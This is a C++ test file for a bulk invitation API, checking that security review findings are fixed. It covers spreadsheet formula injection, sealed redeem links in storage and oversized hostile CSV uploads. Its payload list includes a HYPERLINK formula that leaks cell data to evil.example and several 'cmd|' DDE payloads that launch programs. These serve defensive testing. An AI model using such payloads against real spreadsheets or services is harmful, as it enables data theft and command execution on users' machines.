// Attacks on bulk invitations through the API in-process (real tokens, the
// real route table): hostile CSV files (security review #14), formulas in
// the results file (#25), and redeem links at rest (#9).
#include <gtest/gtest.h>

#include <cstdio>
#include <filesystem>
#include <map>

#include "core/csv_field.h"
#include "core/secret_box.h"
#include "store/bulk_repository.h"
#include "invitations/bulk_csv.h"
#include "support/app_consent.h"
#include "support/test_env.h"

namespace gh::invitations {
namespace {

using gh::testing::TestEnv;
namespace json = boost::json;

class BulkAttacksTest : public ::testing::Test {
 protected:
  TestEnv env;
  TestEnv::TenantHandle contoso = env.Tenant("Contoso", "contoso.test");
  // Its Global Administrator invites (apps may not under the default policy).
  const std::string admin = gh::testing::AdminUserToken(env, contoso);

  http::Response Upload(const std::string& csv) {
    return env.Call("POST", "/api/v1/bulkInvitations?redirectUrl=https://apps.contoso.test/", admin, csv,
                    {{"Content-Type", "text/csv"}});
  }

  int64_t Jobs() {
    auto r = env.Call("GET", "/api/v1/bulkInvitations", contoso.token);
    EXPECT_EQ(r.status, 200) << r.body;
    return static_cast<int64_t>(TestEnv::Json(r).at("value").as_array().size());
  }

  // Uploads, runs the job, returns its results file.
  std::string RunAndDownload(const std::string& csv) {
    auto r = Upload(csv);
    EXPECT_EQ(r.status, 202) << r.body;
    env.bulk_runner->RunAll();
    auto got = env.Call("GET", "/api/v1/bulkInvitations/" + std::string(TestEnv::Json(r).at("id").as_string()) +
                                   "/results",
                        contoso.token);
    EXPECT_EQ(got.status, 200) << got.body;
    return got.body;
  }

  // The fields of the results file's records after the heading.
  static std::vector<std::vector<std::string>> Records(const std::string& csv) {
    std::vector<std::vector<std::string>> out;
    Status st = ReadCsv(csv, [&](int64_t n, std::vector<std::string>& f) {
      if (n > 1) out.push_back(f);
      return true;
    });
    EXPECT_TRUE(st.ok()) << st.ToString();
    return out;
  }

  static void ExpectRefused(const http::Response& r, std::string_view says) {
    EXPECT_EQ(r.status, 400) << r.body.substr(0, 500);
    if (r.status != 400) return;
    EXPECT_EQ(TestEnv::ErrorCode(r), "Request_BadRequest");
    EXPECT_NE(r.body.find(says), std::string::npos) << r.body;
  }
};

// ---- #25: formula injection in the results file

TEST_F(BulkAttacksTest, ResultsCellsAFileChoseCannotStartAFormula) {
  // Each address is refused ("invalid") and echoed in the email and error
  // columns of the results, which admins open in Excel.
  std::string csv = "email,displayName\n";
  const std::vector<std::string> payloads = {"=HYPERLINK(\"https://evil.example/?\"&A1;\"Fix\")",
                                             "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                                             "@SUM(1+9)*cmd|' /C calc'!A0"};
  for (const auto& p : payloads) csv += CsvField(p) + ",Mallory\n";
  auto records = Records(RunAndDownload(csv));
  ASSERT_EQ(records.size(), payloads.size());
  for (size_t i = 0; i < payloads.size(); ++i) {
    const auto& f = records[i];
    ASSERT_EQ(f.size(), 6u);
    EXPECT_EQ(f[2], "invalid") << f[1];
    // Shown as text: the value as given, after an apostrophe.
    EXPECT_EQ(f[1], "'" + payloads[i]);
    for (const std::string& cell : f) {
      if (cell.empty()) continue;
      EXPECT_EQ(std::string_view("=+-@\t\r").find(cell.front()), std::string_view::npos) << cell;
    }
  }
}

TEST(CsvFieldTest, NeutralisesWhatSpreadsheetsEvaluateAndQuotesPerRfc4180) {
  EXPECT_EQ(CsvField("plain"), "plain");
  EXPECT_EQ(CsvField("a,b"), "\"a,b\"");
  EXPECT_EQ(CsvField("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(CsvField("=1+1"), "\"'=1+1\"");
  EXPECT_EQ(CsvField("+1"), "\"'+1\"");
  EXPECT_EQ(CsvField("-1"), "\"'-1\"");
  EXPECT_EQ(CsvField("@SUM(A1)"), "\"'@SUM(A1)\"");
  EXPECT_EQ(CsvField("\tx"), "\"'\tx\"");
  EXPECT_EQ(CsvField("\rx"), "\"'\rx\"");
  EXPECT_EQ(CsvField("=\"a\",b"), "\"'=\"\"a\"\",b\"");
  EXPECT_EQ(CsvField("a=b"), "a=b");  // only the first character matters
  EXPECT_EQ(CsvField(""), "");
}

// ---- #9: the results' redeem links at rest

TEST_F(BulkAttacksTest, StoredResultsHoldNoWorkingLinkButTheDownloadDoes) {
  auto r = Upload("email\nann@partner.example\nbob@partner.example\n");
  ASSERT_EQ(r.status, 202) << r.body;
  const std::string id(TestEnv::Json(r).at("id").as_string());
  env.bulk_runner->RunAll();
  auto downloaded = env.Call("GET", "/api/v1/bulkInvitations/" + id + "/results", contoso.token);
  auto records = Records(downloaded.body);
  ASSERT_EQ(records.size(), 2u);
  // What a database dump has: the rows as stored.
  auto tx = env.store->Begin(store::TxMode::kRead);
  ASSERT_TRUE(tx.ok());
  auto stored = (*tx)->Bulk().ListResults(id, 0, 10);
  ASSERT_TRUE(stored.ok()) << stored.status().ToString();
  ASSERT_EQ(stored->size(), 2u);
  for (size_t i = 0; i < 2; ++i) {
    const std::string& link = records[i][4];
    ASSERT_TRUE(link.starts_with(std::string(TestEnv::kBase) + "/redeem?")) << link;
    const std::string ticket = link.substr(link.find("ticket=") + 7, link.find("&ver") - link.find("ticket=") - 7);
    ASSERT_GE(ticket.size(), 20u);
    const std::string& at_rest = (*stored)[i].redeem_url;
    EXPECT_TRUE(SecretBox::IsSealed(at_rest)) << at_rest;
    EXPECT_EQ(at_rest.find(ticket), std::string::npos);
    EXPECT_EQ(at_rest.find("redeem"), std::string::npos);
  }
  // Someone who can write the database copies Ann's sealed link onto Bob's
  // row: it doesn't open there.
  const store::BulkResultRow ann = (*stored)[0], bob = (*stored)[1];
  tx->reset();
  {
    auto write = env.store->Begin(store::TxMode::kWrite);
    ASSERT_TRUE(write.ok());
    ASSERT_TRUE((*write)->Bulk().ReplaceLink({id, bob.row, bob.redeem_url}, ann.redeem_url).ok());
    ASSERT_TRUE((*write)->Commit().ok());
  }
  auto after = Records(env.Call("GET", "/api/v1/bulkInvitations/" + id + "/results", contoso.token).body);
  EXPECT_EQ(after[0][4], records[0][4]);
  EXPECT_EQ(after[1][4], "");
}

// ---- #14: hostile CSV files are refused at upload, before any job exists

TEST_F(BulkAttacksTest, ARecordWithAMillionCommasIsRefused) {
  std::string csv = "email,displayName\nann@partner.example" + std::string(1'000'000, ',') + "\n";
  ExpectRefused(Upload(csv), "more than 64 fields");
  EXPECT_EQ(Jobs(), 0);
}

TEST_F(BulkAttacksTest, AHeadingWithTooManyColumnsIsRefused) {
  std::string csv = "email";
  for (int i = 0; i < 70; ++i) csv += ",extra" + std::to_string(i);
  ExpectRefused(Upload(csv + "\nann@partner.example\n"), "more than 64 fields");
  EXPECT_EQ(Jobs(), 0);
}

TEST_F(BulkAttacksTest, ATenMegabyteFieldIsRefused) {
  for (bool quoted : {false, true}) {
    std::string field(10 * 1024 * 1024, 'a');
    std::string csv = "email,displayName\nann@partner.example," + (quoted ? "\"" + field + "\"" : field) + "\n";
    ExpectRefused(Upload(csv), "longer than 65536 bytes");
  }
  EXPECT_EQ(Jobs(), 0);
}

TEST_F(BulkAttacksTest, TooManyRowsAreRefused) {
  std::string csv = "email\n";
  csv.reserve(8'000'000);
  for (int i = 0; i <= 500'000; ++i) csv += "g" + std::to_string(i) + "@p.example\n";
  ExpectRefused(Upload(csv), "more than 500000 rows");
  EXPECT_EQ(Jobs(), 0);
}

TEST_F(BulkAttacksTest, FilesWithinTheCapsStillWork) {
  std::string message(10'000, 'm');  // the longest customized message
  std::string csv = "email,displayName,message";
  for (int i = 3; i < 64; ++i) csv += ",extra" + std::to_string(i);
  csv += "\nann@partner.example,Ann," + message + "\n";
  auto records = Records(RunAndDownload(csv));
  ASSERT_EQ(records.size(), 1u);
  EXPECT_EQ(records[0][2], "invited");
}

TEST_F(BulkAttacksTest, OtherWritesGoOnWhileAnUploadIsRead) {
  // While the file is read, the directory is written through the API: on
  // SQLite that write would wait on (and after 5 s fail with) a write
  // transaction held across the read.
  std::vector<int> statuses;
  BulkSettings settings;
  settings.chunk_rows = 100;
  BulkInvitationService bulk(*env.store, *env.invitations, env.clock, env.random, settings);
  bulk.SetOnRowsRead([&](int64_t rows) {
    auto r = env.Call("POST", "/v1.0/groups", contoso.token,
                      R"({"displayName":"During )" + std::to_string(rows) +
                          R"(","mailEnabled":false,"mailNickname":"during)" + std::to_string(rows) +
                          R"(","securityEnabled":true})");
    statuses.push_back(r.status);
  });
  std::string csv = "email\n";
  for (int i = 0; i < 300; ++i) csv += "g" + std::to_string(i) + "@partner.example\n";
  Inviter admin_inviter{contoso.res.admin.id, "Admin", "", false, {}, {std::string(directory::kGlobalAdministratorRole)}, {}};
  BulkOptions options;
  options.redirect_url = "https://apps.contoso.test/";
  auto job = bulk.Submit(admin_inviter, contoso.res.tenant.id, csv, options);
  ASSERT_TRUE(job.ok()) << job.status().ToString();
  EXPECT_EQ(job->total_rows, 300);
  EXPECT_EQ(bulk.StoredJob(contoso.res.tenant.id, job->id)->chunk_count, 3);
  EXPECT_EQ(statuses, (std::vector<int>{201, 201, 201}));
}

}  // namespace
}  // namespace gh::invitations
